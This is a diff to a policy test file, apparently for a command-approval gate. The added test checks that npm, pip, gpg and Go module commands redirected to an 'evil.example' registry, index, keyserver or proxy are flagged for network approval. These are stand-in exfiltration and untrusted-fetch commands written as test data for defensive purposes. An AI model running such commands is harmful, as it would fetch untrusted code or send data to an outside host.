@@ -209,6 +209,23 @@ test_ask_git_destructive_git_clean_x if {
 	verdict(simple_call(["git", "clean", "-fdx"])) == "ask"
 }
 
+test_ask_network_registry_named if {
+	every argv in [
+		["npm", "view", "x", "--registry=http://evil.example/data"],
+		["pip", "index", "versions", "x", "-i", "http://evil.example/data"],
+		["pip", "download", "--extra-index-url", "http://evil.example/", "x"],
+		["gpg", "--keyserver", "hkp://data.evil.example", "--recv-keys", "0x1"],
+		["npm", "view", "x", "--@s:registry=http://evil.example/"],
+	] {
+		"ask.network" in rules(simple_call(argv))
+	}
+	proxied := exec_call("GOPROXY=http://evil.example/x go mod download", [object.union(cmd(["go", "mod", "download"]), {"env": {"GOPROXY": "http://evil.example/x"}})], [])
+	"ask.network" in rules(proxied)
+	every argv in [["npm", "test"], ["go", "test", "-f", "x", "./..."], ["npm", "run", "lint", "--", "-f", "json"], ["npm", "test", "--", "--registry=x"], ["ls", "--registry=x"]] {
+		not "ask.network" in rules(simple_call(argv))
+	}
+}
+
 test_ask_autorun_config if {
 	every rel in [".vscode/tasks.json", ".vscode/settings.json", ".devcontainer/devcontainer.json", ".npmrc", "sub/.yarnrc.yml"] {
 		doc := exec_call(concat("", ["echo x > ", rel]), [cmd(["echo", "x"])], [wpath(rel, "write", -1, "")])
